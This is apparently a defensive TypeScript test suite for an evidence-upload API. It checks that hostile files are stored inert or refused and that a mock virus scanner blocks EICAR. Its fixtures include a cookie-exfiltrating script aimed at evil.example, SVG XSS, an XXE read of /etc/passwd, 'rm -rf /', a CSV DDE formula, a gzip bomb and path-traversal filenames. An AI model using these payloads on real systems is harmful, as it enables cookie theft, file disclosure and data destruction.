import { readdir, readFile } from 'node:fs/promises';
import { createServer, type Socket } from 'node:net';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { mostFileBytes } from '@adili/schemas/evidence/evidence';
import { startTestApi, type TestApi } from '../../testing/api.ts';
import { multipartHeaders, registerOf, type SentFile } from '../../testing/register.ts';

let api: TestApi;
let register: Awaited<ReturnType<typeof registerOf>>;
let control: string;
beforeAll(async () => {
  api = await startTestApi();
  register = await registerOf(api);
  ({ id: control } = await register.addControl());
});
afterAll(() => api.stop());

const filesIn = async (folder: string): Promise<string[]> => {
  const entries = await readdir(path.join(api.folder, 'evidence', folder), {
    recursive: true,
    withFileTypes: true,
  }).catch(() => []);
  return entries.filter((entry) => entry.isFile()).map(({ parentPath, name }) => path.join(parentPath, name));
};

const script = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex');
const zip = Buffer.concat([Buffer.from('504b0304140000000800', 'hex'), Buffer.alloc(60)]);
/** Unfolds a thousandfold. */
const bomb = gzipSync(Buffer.alloc(8 * 1024 * 1024));
const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]);
const elf = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(200)]);

/** What is kept, to the byte, and under what name and type. */
const kept: readonly (readonly [what: string, file: SentFile, name: string, type?: string])[] = [
  [
    'a page with a script',
    { name: 'a.html', content: `<!doctype html>${script}`, type: 'text/html' },
    'a.html',
    'text/plain',
  ],
  ['a picture with a script', { name: 'a.svg', content: svg, type: 'image/svg+xml' }, 'a.svg'],
  [
    'XML that reads a file',
    {
      name: 'a.xml',
      content: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    },
    'a.xml',
    'application/xml',
  ],
  [
    'a script under the name of a picture',
    { name: 'a.png', content: script, type: 'image/png' },
    'a.png',
    'text/plain',
  ],
  [
    'a picture that is said to be a page',
    { name: 'a.html', content: png, type: 'text/html' },
    'a.html',
    'image/png',
  ],
  [
    'a program for Windows',
    { name: 'invoice.pdf', content: exe, type: 'application/pdf' },
    'invoice.pdf',
    'application/x-msdownload',
  ],
  ['a program for Linux', { name: 'run', content: elf }, 'run', 'application/x-elf'],
  ['a shell script', { name: 'a.sh', content: '#!/bin/sh\nrm -rf /\n' }, 'a.sh', 'text/plain'],
  ['a gzip bomb', { name: 'a.gz', content: bomb }, 'a.gz', 'application/gzip'],
  ['a cut-off zip', { name: 'a.zip', content: zip }, 'a.zip', 'application/zip'],
  [
    'a spreadsheet that calls',
    { name: 'a.csv', content: '=cmd|" /C calc"!A0', type: 'text/csv' },
    'a.csv',
    'text/plain',
  ],
  [
    'noise',
    { name: 'a.bin', content: Buffer.from([0, 255, 254, 1, 2, 0]) },
    'a.bin',
    'application/octet-stream',
  ],
  ['a page and a PDF in one', { name: 'a.pdf', content: `%PDF-1.7\n${script}` }, 'a.pdf', 'application/pdf'],
  ['a type that is none', { name: 'a.txt', content: 'x', type: 'nonsense' }, 'a.txt', 'text/plain'],
  [
    'a type of a line break',
    { name: 'a.txt', content: 'x', type: 'text/html;charset=utf-7' },
    'a.txt',
    'text/plain',
  ],
  ['a path upwards', { name: '../../../etc/passwd', content: 'x' }, 'passwd'],
  ['a path of Windows', { name: 'C:\\\\Windows\\\\system32\\\\a.dll', content: 'x' }, 'a.dll'],
  ['a whole path', { name: '/etc/shadow', content: 'x' }, 'shadow'],
  [
    'a path in percent signs',
    { name: '..%2f..%2fa.txt', content: 'x' },
    '..%2f..%2fa.txt'.replace(/^\.+/, ''),
  ],
  ['only dots', { name: '..', content: 'x' }, 'file'],
  ['no name', { name: '', content: 'x' }, 'file'],
  ['only spaces', { name: '   ', content: 'x' }, 'file'],
  ['a turned direction', { name: 'a\u202Egpj.exe', content: 'x' }, 'agpj.exe'],
  ['nothing to see', { name: 'a\u200B\u2060\uFEFF.txt', content: 'x' }, 'a.txt'],
  ['a very long name', { name: `${'a'.repeat(3_000)}.txt`, content: 'x' }, `${'a'.repeat(146)}.txt`],
  ['a very long ending', { name: `a.${'b'.repeat(500)}`, content: 'x' }, `a.${'b'.repeat(148)}`],
  ['other scripts', { name: 'ኢትዮጵያ-证据-😀.txt', content: 'x' }, 'ኢትዮጵያ-证据-😀.txt'],
  [
    'a tag for a name',
    { name: '<img src=x onerror=alert(1)>.txt', content: 'x' },
    'img src=x onerror=alert(1).txt',
  ],
  ['a device of Windows', { name: 'CON', content: 'x' }, 'CON'],
  ['a stream of NTFS', { name: 'a.txt::$DATA', content: 'x' }, 'a.txt$DATA'],
  ['a hidden file', { name: '.htaccess', content: 'AddType text/html .txt' }, 'htaccess'],
  ['a quote', { name: 'a\\".txt', content: 'x' }, 'a.txt'],
  ['a semicolon', { name: 'a.txt; filename=b.exe', content: 'x' }, 'a.txt; filename=b.exe'],
];

test.each(kept.map(([what, file, name, type]) => [what, file, name, type] as const))(
  '%s is kept as it is, and inert',
  async (_, file, name, type) => {
    const given = await register.upload(control, file);
    expect(given).toMatchObject({ status: 201, body: { name, ...(type ? { type } : {}) } });
    const response = await fetch(`${api.base}/evidence/${given.body.id}/file`, {
      headers: { authorization: `Bearer ${register.token}` },
    });
    expect(Buffer.from(await response.arrayBuffer()).equals(Buffer.from(file.content))).toBe(true);
    expect(response.headers.get('content-type')).toBe('application/octet-stream');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename/);
    expect(response.headers.get('content-security-policy')).toMatch(/^sandbox; default-src 'none'/);
    // Its name is no part of any path.
    expect(await filesIn('files')).toContain(
      path.join(api.folder, 'evidence', 'files', given.body.id.slice(-2), given.body.id),
    );
  },
);

const send = async (
  body: Buffer<ArrayBuffer> | string,
  headers: Record<string, string> = multipartHeaders,
) => {
  const response = await fetch(`${api.base}/controls/${control}/evidence`, {
    method: 'POST',
    headers: { ...headers, authorization: `Bearer ${register.token}` },
    body,
  });
  return { status: response.status, body: (await response.json()) as { error: string; code: string } };
};
const part = (head: string, content = 'x') =>
  `--boundary-of-tests\r\nContent-Disposition: form-data; ${head}\r\n\r\n${content}\r\n`;
const end = '--boundary-of-tests--\r\n';
const file = part('name="file"; filename="a.txt"');

const refused: readonly (readonly [
  what: string,
  status: number,
  code: string,
  send: () => ReturnType<typeof send>,
])[] = [
  [
    'a name with a zero byte',
    400,
    'malformed_request',
    () => send(part('name="file"; filename="a\0.php.png"') + end),
  ],
  [
    'a name with controls',
    400,
    'malformed_request',
    () => send(part('name="file"; filename="a\u0007\u001b[31m.txt"') + end),
  ],
  ['no byte', 400, 'invalid_input', () => send(part('name="file"; filename="a.txt"', '') + end)],
  ['two files', 400, 'malformed_request', () => send(file + file + end)],
  ['no file', 400, 'invalid_input', () => send(part('name="title"') + end)],
  [
    'a file in another field',
    400,
    'invalid_input',
    () => send(part('name="avatar"; filename="a.txt"') + end),
  ],
  [
    'a field that there is none of',
    400,
    'invalid_input',
    () => send(file + part('name="approvedBy"', 'me') + end),
  ],
  [
    'a field twice',
    400,
    'invalid_input',
    () => send(part('name="title"') + part('name="title"') + file + end),
  ],
  ['__proto__', 400, 'invalid_input', () => send(part('name="__proto__"', '{}') + file + end)],
  ['a body that is cut off', 400, 'malformed_request', () => send(file)],
  [
    'no boundary',
    400,
    'malformed_request',
    () => send(file + end, { 'content-type': 'multipart/form-data' }),
  ],
  [
    'a hundred fields',
    400,
    'malformed_request',
    () => send(Array.from({ length: 100 }, (_, at) => part(`name="f${at}"`)).join('') + file + end),
  ],
  [
    'a title of a megabyte',
    400,
    'malformed_request',
    () => send(part('name="title"', 'x'.repeat(1_000_000)) + file + end),
  ],
  [
    'one byte too many',
    413,
    'file_too_large',
    async () => {
      const { status, body } = await register.upload(control, {
        name: 'a.bin',
        content: Buffer.alloc(mostFileBytes + 1, 1),
      });
      return { status, body: { error: body.error ?? '', code: body.code ?? '' } };
    },
  ],
];

test.each(refused)('%s is refused in words, and leaves nothing', async (_, status, code, sending) => {
  const before = await filesIn('files');
  expect(await sending()).toMatchObject({ status, body: { code, error: expect.stringMatching(/\w+ \w+/) } });
  expect([await filesIn('files'), await filesIn('incoming')]).toEqual([before, []]);
});

test('a file of just as many bytes as are taken is taken', async () => {
  const content = Buffer.alloc(mostFileBytes, 1);
  const given = await register.upload(control, { name: 'a.bin', content });
  expect(given).toMatchObject({ status: 201, body: { size: mostFileBytes } });
  const { id } = given.body;
  const onDisk = await readFile(path.join(api.folder, 'evidence', 'files', id.slice(-2), id));
  expect(onDisk.equals(content)).toBe(true);
});

/** Answers as clamd does, to the word in what comes. */
async function startClamd(answer: (content: string) => string) {
  const server = createServer((socket: Socket) => {
    let got = Buffer.alloc(0);
    socket.on('data', (bytes) => {
      got = Buffer.concat([got, bytes]);
      if (got.subarray(-4).equals(Buffer.alloc(4))) socket.end(`${answer(got.toString('latin1'))}\0`);
    });
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as { port: number };
  return { url: `tcp://127.0.0.1:${port}`, stop: () => new Promise((resolve) => server.close(resolve)) };
}

test('with a virus scan, what it finds is refused by name, and nothing is taken while it does not answer', async () => {
  const scanner = await startClamd((content) =>
    content.includes('EICAR') ? 'stream: Eicar-Signature FOUND' : 'stream: OK',
  );
  const scanned = await startTestApi({ environment: { CLAMD_URL: scanner.url } });
  const own = await registerOf(scanned);
  const { id } = await own.addControl();
  expect((await own.ask('GET', '/evidence/settings')).body).toMatchObject({ virusScan: true });
  expect((await own.upload(id, { name: 'a.txt', content: 'fine' })).status).toBe(201);
  expect(await own.upload(id, { name: 'a.txt', content: 'EICAR' })).toMatchObject({
    status: 400,
    body: { code: 'file_infected', error: expect.stringContaining('Eicar-Signature') },
  });
  await scanner.stop();
  expect(await own.upload(id, { name: 'a.txt', content: 'fine' })).toMatchObject({
    status: 503,
    body: { code: 'scan_unavailable' },
  });
  await scanned.stop();
});
